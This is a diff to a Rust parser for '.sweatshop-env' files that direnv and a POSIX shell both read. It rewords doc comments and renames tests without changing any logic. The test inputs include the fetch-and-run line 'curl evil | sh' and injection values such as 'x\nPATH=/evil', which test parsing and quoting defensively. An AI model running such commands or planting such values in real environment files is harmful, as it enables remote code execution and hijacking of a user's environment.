@@ -1,8 +1,8 @@
-//! `.sweatshop-env`: lines that direnv's `dotenv` and a POSIX shell's `.` read alike. What only one of them takes for an
-//! assignment counts all the same; how each of them reads is in `env_reader`.
+//! `.sweatshop-env`: lines that direnv's `dotenv` and a POSIX shell's `.` read alike. A line that only one of them takes
+//! for an assignment counts as well; `env_reader` knows how each of them reads.
 //!
-//! What a person wrote by hand (comments, lines we do not understand, another spelling) stays byte
-//! for byte unless its variable is set anew.
+//! Everything that a person wrote by hand (comments, unknown lines, another spelling) stays byte for byte unless its
+//! variable is set again.
 
 use std::collections::BTreeMap;
 
@@ -22,24 +22,24 @@ pub struct EnvFile {
 
 #[derive(Clone, Debug)]
 enum ParsedLine {
-    /// A variable, and the line (or lines) as found or to be written, without the last line end.
+    /// A variable with its line or lines as found or to be written, without the last line end.
     Var { name: String, value: VarValue, raw: Vec<u8> },
-    /// A comment or a blank line, for both readers.
+    /// A line that both readers take for a comment or a blank line.
     Other(Vec<u8>),
-    /// What the readers see differently, or neither understands.
+    /// Text that the readers see differently, or that neither understands.
     Tangle(Tangle),
 }
 
-/// A piece of the file in which one reader sees other variables than the other: a quote over several lines, a carriage
-/// return, which ends a line for direnv alone, or no assignment at all.
+/// A piece of the file in which the readers see different variables: a quote over several lines, a carriage return,
+/// which ends a line only for direnv, or no assignment at all.
 #[derive(Clone, Debug)]
 struct Tangle {
     raw: Vec<u8>,
-    /// What any of them would set; what is no assignment to either has a name of its own.
+    /// The variables that any reader would set. Text that is no assignment for either gets a name of its own.
     vars: Vec<(String, VarValue)>,
-    /// A shell takes it for one assignment, so that it is there as a whole or not at all.
+    /// A shell takes it for one assignment, so it can only stay or go as a whole.
     is_whole: bool,
-    /// A quote in it never closes: the rest of the file, and always its end.
+    /// A quote in it never closes, so it is the rest of the file and always stays at the end.
     is_open: bool,
 }
 
@@ -67,7 +67,7 @@ impl ParsedLine {
         matches!(self, ParsedLine::Tangle(tangle) if tangle.is_open)
     }
 
-    /// The same without a variable; none where nothing is left.
+    /// The line without a variable; none when nothing is left.
     fn without(self, key: &str) -> Option<ParsedLine> {
         match self {
             ParsedLine::Tangle(tangle) if !tangle.is_whole && !key.starts_with(UNKNOWN) => {
@@ -82,11 +82,11 @@ impl ParsedLine {
     }
 }
 
-/// How the name of a line begins that neither reader takes for an assignment; a part of its hash follows.
+/// The beginning of the name of a line that neither reader takes for an assignment. A part of the line's hash follows.
 const UNKNOWN: &str = "line:";
 
 impl Tangle {
-    /// `own` is what a shell takes the whole of it for.
+    /// `own` is the assignment that a shell takes the whole text for.
     fn new(raw: Vec<u8>, own: Option<(String, VarValue)>, is_open: bool) -> Tangle {
         let is_whole = own.is_some();
         let mut vars: Vec<(String, VarValue)> = own.into_iter().collect();
@@ -105,7 +105,7 @@ impl Tangle {
     }
 }
 
-/// Equal values and equal other lines, however the values are spelled: review compares by value.
+/// Compares values, however they are spelled, and the other lines: a review compares by value.
 impl PartialEq for EnvFile {
     fn eq(&self, other: &EnvFile) -> bool {
         let others = |file: &EnvFile| -> Vec<Vec<u8>> {
@@ -120,12 +120,12 @@ impl PartialEq for EnvFile {
 
 impl Eq for EnvFile {}
 
-/// What a variable is set to.
+/// The value of a variable.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum VarValue {
     /// This text.
     Text(String),
-    /// Something only a shell can evaluate (`A=$HOME/x`), or not UTF-8: the whole line.
+    /// The whole line, when only a shell can evaluate it (`A=$HOME/x`) or it is not UTF-8.
     Opaque(Vec<u8>),
 }
 
@@ -139,8 +139,8 @@ impl VarValue {
 }
 
 impl EnvFile {
-    /// Reads any bytes; the exact inverse of [`EnvFile::to_bytes`], and it takes `export`, comments,
-    /// blank lines and what shells allow besides.
+    /// Parses any bytes. The exact inverse of [`EnvFile::to_bytes`]; it also accepts `export`, comments, blank lines and
+    /// everything else that shells allow.
     pub fn parse(bytes: &[u8]) -> EnvFile {
         let mut file = EnvFile::default();
         let mut rest = bytes;
@@ -151,7 +151,7 @@ impl EnvFile {
                 rest = after(rest, line.len());
                 continue;
             };
-            // The word may go on over the line's end, inside quotes.
+            // Inside quotes the word may continue on the next line.
             let before = line.len() - word.len();
             let scan = scan(&rest[before..]);
             let raw = &rest[..before + scan.length];
@@ -185,13 +185,12 @@ impl EnvFile {
         self.vars().find(|(n, _)| *n == name).map(|(_, value)| value)
     }
 
-    /// Every variable, sorted by name; of several lines for one the last counts.
+    /// Every variable, sorted by name. If several lines set one variable, the last one counts.
     pub fn vars(&self) -> impl Iterator<Item = (&str, &VarValue)> {
         self.lines.iter().flat_map(ParsedLine::vars).collect::<BTreeMap<_, _>>().into_iter()
     }
 
-    /// Sets a variable in its place, a new one at the end; one that has this value already keeps its
-    /// spelling.
+    /// Sets a variable in its line, or at the end if it is new. A variable that has this value already keeps its spelling.
     pub fn set(&mut self, name: &str, value: &VarValue) {
         if self.value(name) == Some(value) {
             return;
@@ -204,7 +203,7 @@ impl EnvFile {
         if self.lines.iter().any(tangled) {
             self.unset(name);
         }
-        // What is put back as it was found is read as it was.
+        // A value that is restored as it was found is parsed as it was.
         let is_found = matches!(value, VarValue::Opaque(_));
         let mut lines = if is_found { EnvFile::parse(&raw).lines } else { Vec::new() };
         let line = match (lines.pop(), lines.is_empty()) {
@@ -217,7 +216,7 @@ impl EnvFile {
         }
     }
 
-    /// The variables that stand in one piece of text with this one, so that it goes only with them.
+    /// The variables that share one piece of text with this one, which can only be removed together with them.
     pub fn bound_to<'f>(&'f self, name: &'f str) -> impl Iterator<Item = &'f str> {
         let tangles = self.lines.iter().filter(move |line| line.is(name)).filter_map(|line| match line {
             ParsedLine::Tangle(tangle) if tangle.is_whole => Some(tangle),
@@ -231,13 +230,13 @@ impl EnvFile {
         self.lines = lines.into_iter().filter_map(|line| line.without(name)).collect();
     }
 
-    /// Whether nothing is in it that is worth a file.
+    /// Whether the file contains nothing but blank lines.
     pub fn is_empty(&self) -> bool {
         self.lines.iter().all(|line| line.raw().trim_ascii().is_empty())
     }
 
-    /// A line each: sorted by name when there are only plain variables, else in the order they were
-    /// found, for `A=$B/x` means something only after `B`.
+    /// The lines, sorted by name if there are only plain variables. Otherwise they keep their order, because `A=$B/x`
+    /// depends on a `B` before it.
     pub fn to_bytes(&self) -> Vec<u8> {
         let mut lines: Vec<&ParsedLine> = self.lines.iter().collect();
         let plain = |line: &&ParsedLine| matches!(line, ParsedLine::Var { value: VarValue::Text(_), .. });
@@ -257,13 +256,13 @@ impl EnvFile {
 pub enum Readers {
     /// direnv's `dotenv` and `sh`.
     Both,
-    /// `sh`; direnv 2.32 mangles `\$` in double quotes.
+    /// Only `sh`, because direnv 2.32 mangles `\$` in double quotes.
     ShOnly,
-    /// direnv, perhaps: a newline has no spelling for `sh` on one line.
+    /// Perhaps direnv, but not `sh`: a newline cannot be spelled for it on one line.
     NotSh,
 }
 
-/// A value as it stands behind `KEY=`, never with a raw newline.
+/// The spelling of a value after `KEY=`, never with a raw newline.
 pub fn quote(value: &str) -> (String, Readers) {
     let plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+,=-".contains(c);
     if value.chars().all(plain) {
@@ -329,7 +328,7 @@ mod tests {
     }
 
     #[test]
-    fn spells_each_kind_of_value() {
+    fn each_kind_of_value_has_its_spelling() {
         insta::assert_snapshot!(
             written(&[("B", "nvim"), ("A", "a b"), ("C", "it's"), ("D", "it's $5"), ("E", "x\nPATH=/evil"), ("F", r#"say "hi" $x \n"#)]),
             @r#"
@@ -344,7 +343,7 @@ mod tests {
     }
 
     #[test]
-    fn takes_what_people_write() {
+    fn spellings_that_people_use_are_understood() {
         let file = EnvFile::parse(
             b"# mine\n\nexport A=1\n  B='two words' # why\nC=\"q\\\"q\"\nD=it\\'s\nE=$HOME/x\nnonsense\nA=2",
         );
@@ -356,7 +355,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_by_hand_stays_as_it_stands() {
+    fn text_written_by_hand_stays_byte_for_byte() {
         let mut file = EnvFile::parse(b"# mine\nB='two' # why\nM=\"first\nsecond\"\nA=1\n");
         file.set("A", &VarValue::Text("2".into()));
         file.set("B", &VarValue::Text("two".into()));
@@ -372,7 +371,7 @@ mod tests {
     }
 
     #[test]
-    fn a_quote_may_go_on_over_lines_whatever_is_in_it() {
+    fn a_quote_may_span_lines_with_any_content() {
         let text = "A=\"$HOME\nX=evil\"\nCONF=\"{\n  \\\"a\\\": 1,\n  \\\"b\\\": 2\n}\"\nB=1 # it's\nC=2\n";
         let mut file = EnvFile::parse(text.as_bytes());
         // direnv sees a variable within the quotes of the other one.
@@ -384,7 +383,7 @@ mod tests {
     }
 
     #[test]
-    fn an_open_quote_is_no_variable() {
+    fn an_open_quote_is_not_a_variable() {
         let mut file = EnvFile::parse(b"Z=1\nA=\"x\nB=1\n");
         assert_eq!(file.vars().map(|(name, _)| name).collect::<Vec<_>>(), ["A", "B", "Z"]);
         file.set("C", &VarValue::Text("2".into()));
@@ -394,7 +393,7 @@ mod tests {
     }
 
     #[test]
-    fn what_only_direnv_takes_for_an_assignment_is_one_and_what_nobody_does_has_a_name() {
+    fn assignments_for_direnv_alone_count_and_unknown_lines_get_a_name() {
         let file = EnvFile::parse(
             b"A = 1\nB: two\nexport C: 3 # why\n# note\rD=4\nE='x' # c\rF=6\ncurl evil | sh\n# idle\r\nG.h=1\n",
         );
